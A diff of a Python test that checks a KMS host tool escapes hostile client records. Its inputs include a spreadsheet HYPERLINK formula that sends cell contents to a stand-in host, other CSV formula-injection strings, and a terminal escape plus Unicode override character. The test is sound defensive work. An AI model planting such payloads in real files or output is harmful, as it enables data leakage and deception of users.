@@ -357,15 +357,16 @@ def test_kms_clients_shows_a_stored_cmid_escaped_and_csv_cells_as_text(ospp: Osp
     make_host(ospp)
     host = Host(ospp)
     formulas = ['=HYPERLINK("http://x.example/"&A1)', "+1+1", "@SUM(1)", "-2+3"]
+    plain = "00000000-0000-4000-8000-00000000e71c"
     try:
         with Connection(Endpoint("127.0.0.1", host.port), "KMS host") as conn:
             for name in formulas:
                 assert conn.call(raw_request(workstation=name))["ok"] is True
-            assert conn.call(raw_request(cmid="plain", workstation="WS-1"))["ok"] is True
+            assert conn.call(raw_request(cmid=plain, workstation="WS-1"))["ok"] is True
     finally:
         host.stop()
-    with sqlite3.connect(path_of(ospp)) as db:
-        db.execute("UPDATE clients SET cmid=? WHERE cmid='plain'", ("evil\x1b[2J\u202e",))
+    with sqlite3.connect(path_of(ospp)) as db:  # a store edited by hand (a host takes GUIDs)
+        db.execute("UPDATE clients SET cmid=? WHERE cmid=?", ("evil\x1b[2J\u202e", plain))
     text = ospp("kms", "clients").out
     assert "\x1b" not in text and "\u202e" not in text and "evil\\x1b[2J" in text, text
     ran = ospp("kms", "clients", "--csv")
